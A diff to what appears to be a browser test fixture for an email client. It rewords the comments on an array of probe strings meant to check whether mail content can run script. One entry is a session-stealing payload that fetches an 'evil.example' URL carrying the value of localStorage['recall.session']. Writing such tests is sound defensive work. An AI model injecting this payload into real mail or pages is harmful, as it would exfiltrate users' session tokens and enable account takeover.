@@ -1,6 +1,6 @@
-/** What a mail tries in a browser: to run, to be fetched, to lead somewhere, to draw over the page. */
+/** What a mail tries to do in a browser: run code, fetch, navigate, draw over the page. */
 const DEEDS = [
-  // Of the journey in a browser: it counts how often this was run.
+  // Used by the journey in a browser, which counts how often it ran.
   'ran()',
   'alert(1)',
   'fetch("//evil.example/"+localStorage["recall.session"])',
